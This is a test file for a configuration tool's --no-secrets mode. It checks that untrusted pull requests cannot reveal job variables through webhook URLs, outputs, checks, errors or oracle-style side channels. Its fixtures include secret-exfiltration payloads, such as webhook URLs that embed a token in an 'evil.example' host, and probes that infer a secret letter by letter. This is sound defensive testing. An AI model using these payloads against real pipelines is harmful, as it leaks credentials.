import { expect, test } from "vitest";
import { EVERY_COMMAND } from "../program/every-command.ts";
import { type Project, useProjects } from "../project.ts";

const UNTRUSTED = Object.values(EVERY_COMMAND).flatMap(({ untrusted = [] }) => untrusted);
const openProject = useProjects();
const TOKEN = "hush-hush-token";
const VALUES = { OUTREACH_VAR_token: TOKEN, OUTREACH_VAR_stage: "production", OUTREACH_VAR_kind: "emailsBounced" };

/** What a pull request could write to see the values of the job's variables. */
const CURIOUS = `version: 1
variables:
  token: {}
  stage: { allowed: [staging, production] }
  kind: { default: emailsSent }
webhooks:
  crm: { target_url: "https://crm.example.com/\${var.stage}/\${nonsensitive(var.token)}" }
  copy: { target_url: "https://\${var.token}.evil.example/" }
  audit: { target_url: https://audit.example.com/, types: ["\${var.kind}"] }
outputs:
  plain: "\${var.token}"
  open: "\${nonsensitive(var.token)}"
  upper: "\${upper(nonsensitive(var.token))}"
  parts: '\${split("-", nonsensitive(var.token))}'
  mixed: { value: '\${[upper(var.token), outreach_webhook.crm.id]}', sensitive: true }
checks:
  curious: { condition: "\${var.token == 1}", message: "It is \${upper(nonsensitive(var.token))}." }
`;

async function curious(): Promise<Project> {
  const project = await openProject();
  project.write("outreach.yaml", CURIOUS);
  Object.assign(project.environment, VALUES);
  return project;
}

test("under --no-secrets, values of OUTREACH_VAR_ are masked whatever the file says, and refuse nothing", async () => {
  const project = await curious();
  const before = await project.run("plan");
  expect(before.out).toContain(TOKEN);
  const commands = [
    "plan --no-secrets --out pull-request.plan",
    "show pull-request.plan",
    "show --format markdown pull-request.plan",
    "show --format html pull-request.plan",
    "show --json pull-request.plan",
    "explain --no-secrets outreach_webhook.crm",
    ...UNTRUSTED,
  ];
  for (const command of commands) {
    const { code, out, err } = await project.run(command);
    expect(code, `${command}\n${err}`).toBe(0);
    for (const text of [out, err, ...Object.values(project.files())])
      for (const value of [TOKEN, TOKEN.toUpperCase(), '"hush"', "production"])
        if (text !== CURIOUS) expect(text, command).not.toContain(value);
  }
  const { out } = await project.run("plan --no-secrets");
  expect(out).toContain("Plan: 3 to add");
  expect(out).toContain("target_url = (sensitive value) (host crm.example.com)");
  expect(out).toContain("(host (sensitive value))");
});

test("--var passes what may be shown", async () => {
  const project = await curious();
  const { code, out } = await project.run("plan --no-secrets --var stage=staging --var kind=emailsOpened");
  expect(code).toBe(0);
  expect(out).toContain('outreach_webhook.audit["emailsOpened"] will be created');
  expect(out).not.toContain(TOKEN);
});

/** Hosts that a pull request could make from a variable of the job, and what of them names the value. */
const MADE_HOSTS: readonly (readonly [url: string, made: string])[] = [
  ["https://${lower(var.loud)}.evil.example/", "shout-shout"],
  ['https://${replace(var.token, "-", "")}.evil.example/', "hushhushtoken"],
  ['https://evil.example:443@${replace(var.token, "-", ".")}.example/x', "hush.hush.token"],
  ['https:///${replace(var.token, "-", ".")}.example/x', "hush.hush.token"],
  ['${join("", ["https://", lower(var.loud), ".evil.example/"])}', "shout-shout"],
  ['https://${split("-", var.token)[2]}/', "//token"],
  ['https://${split("", var.token)[3]}.a/', "//h.a"],
  ['https://${split("", var.token)[3]}.a/', "host h.a"],
  ['https://ｘ${split("", var.token)[3]}/', "xh"],
  ["${var.token}", TOKEN],
];

test.each(MADE_HOSTS)(
  "under --no-secrets, no host is shown that %s makes from a variable, and none refused",
  async (url, made) => {
    const project = await openProject();
    const targets = {
      made: url,
      plain: "https://crm.example.com/${lower(var.loud)}",
      own: "https://${var.mine}.example.com/${var.token}",
    };
    const webhooks = Object.entries(targets).map(
      ([name, target_url]) => `  ${name}: { target_url: ${JSON.stringify(target_url)} }\n`,
    );
    const fanned = `  each: { target_url: ${JSON.stringify(`${url}\${each.type}`)}, types: [emailsSent] }\n`;
    project.write(
      "outreach.yaml",
      `version: 1\nvariables: { token: {}, loud: {}, mine: { default: mine } }\nwebhooks:\n${webhooks.join("")}${fanned}`,
    );
    Object.assign(project.environment, { OUTREACH_VAR_token: TOKEN, OUTREACH_VAR_loud: "SHOUT-SHOUT" });
    const commands = [
      "plan --no-secrets --out pull-request.plan",
      "show pull-request.plan",
      "show --format markdown pull-request.plan",
      "show --format html pull-request.plan",
      "show --json pull-request.plan",
      "explain --no-secrets outreach_webhook.made",
      ...UNTRUSTED,
    ];
    for (const command of commands) {
      const { code, out, err } = await project.run(command);
      expect(code, `${command}\n${err}`).toBe(0);
      expect(`${out}${err}${project.read("pull-request.plan")}`, command).not.toContain(made);
    }
    const { out } = await project.run("plan --no-secrets");
    expect(out).toContain("(host crm.example.com)");
    expect(out).toContain("(host mine.example.com)");
  },
);

test("under --no-secrets, a host that the configuration writes is shown there, and not where a variable makes the same", async () => {
  const project = await openProject();
  project.write(
    "outreach.yaml",
    `version: 1
variables: { url: {} }
webhooks:
  written: { target_url: "https://crm.example.com/written" }
  made: { target_url: "\${lower(var.url)}" }
`,
  );
  project.environment["OUTREACH_VAR_url"] = "HTTPS://CRM.EXAMPLE.COM/MADE";
  const { out, err } = await project.run("plan --no-secrets --out pull-request.plan");
  expect(out + err).toContain('target_url = "https://crm.example.com/written"');
  for (const command of [
    "show pull-request.plan",
    "show --format html pull-request.plan",
    "show --json pull-request.plan",
  ]) {
    const shown = (await project.run(command)).out;
    expect(shown.match(/crm\.example\.com[^ "&<)]*/g), command).toEqual(shown.match(/crm\.example\.com\/written/g));
  }
});

test("under --no-secrets, nothing tells whether a host of a variable is one that the configuration writes", async () => {
  const shown = async (made: string): Promise<readonly string[]> => {
    const project = await openProject();
    project.write(
      "outreach.yaml",
      `version: 1
variables: { url: {} }
webhooks:
  guess: { target_url: "https://guess.example.com/", type: emailsSent }
  made: { target_url: "\${lower(var.url)}", type: emailsReplied }
`,
    );
    project.environment["OUTREACH_VAR_url"] = made;
    const texts = [];
    for (const command of [
      "plan --no-secrets --out pull-request.plan",
      "explain --no-secrets outreach_webhook.made",
      ...UNTRUSTED,
      ...["text", "markdown", "html", "json"].map((format) => `show --format ${format} pull-request.plan`),
    ])
      texts.push((await project.run(command)).out.replaceAll(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, "TIME"));
    return texts;
  };
  expect(await shown("HTTPS://GUESS.EXAMPLE.COM/hook")).toEqual(await shown("HTTPS://OTHER.EXAMPLE.ORG/hook"));
});

/** Questions about a variable of the job that a pull request could ask, and whether a plan answers them. */
const QUESTIONS: readonly (readonly [string, string])[] = [
  ["a check", "checks: { c: { condition: '${IT}', message: no, severity: error } }"],
  [
    "a check of what it finds",
    `data: { campaigns: { l: { name_regex: '\${IT ? "" : "^none"}' } } }
checks: { c: { condition: "\${length(data.outreach_campaigns.l.ids) > 0}", message: no, severity: error } }`,
  ],
  [
    "an output of what it finds",
    `data: { campaigns: { l: { name_regex: '\${IT ? "" : "^none"}' } } }
outputs: { o: "\${length(data.outreach_campaigns.l.ids)}" }`,
  ],
  ["an expression that fails", `outputs: { o: '\${tonumber(IT ? "1" : "one")}' }`],
  ["an output without a value", `outputs: { o: '\${IT ? "1" : null}' }`],
  ["a list that is too short", `outputs: { o: '\${[1][IT ? 0 : 1]}' }`],
  [
    "an unknown campaign",
    `webhooks: { w: { target_url: "https://a.example.com/", campaign_id: '\${IT ? "cam_000001" : "cam_none"}' } }`,
  ],
  [
    "an invalid campaign",
    `webhooks: { w: { target_url: "https://a.example.com/", campaign_id: '\${IT ? "cam_000001" : "?"}' } }`,
  ],
];

test.each(QUESTIONS)(
  "under --no-secrets, %s does not tell whether a variable begins with a letter",
  async (_, asked) => {
    const project = await openProject();
    project.environment["OUTREACH_VAR_token"] = TOKEN;
    const answers = [];
    for (const letter of ["h", "x"]) {
      const is = `startswith(nonsensitive(var.token), "${letter}")`;
      project.write("outreach.yaml", `version: 1\nvariables: { token: {} }\n${asked.replaceAll("IT", is)}\n`);
      const { code, out, err } = await project.run("plan --no-secrets");
      answers.push({ code, out, err });
    }
    expect(answers[0]).toMatchObject({ code: 0 });
    expect(answers[1]).toEqual(answers[0]);
  },
);

test("under --no-secrets, a pattern that is made of a variable fails no plan, and no list of allowed values tells what it is", async () => {
  const project = await openProject();
  project.environment["OUTREACH_VAR_token"] = TOKEN;
  project.write(
    "outreach.yaml",
    "version: 1\nvariables: { token: { allowed: [other] } }\ndata: { campaigns: { l: { name_regex: '(${var.token}' } } }\n",
  );
  expect(await project.run("plan --no-secrets")).toMatchObject({ code: 0 });
});
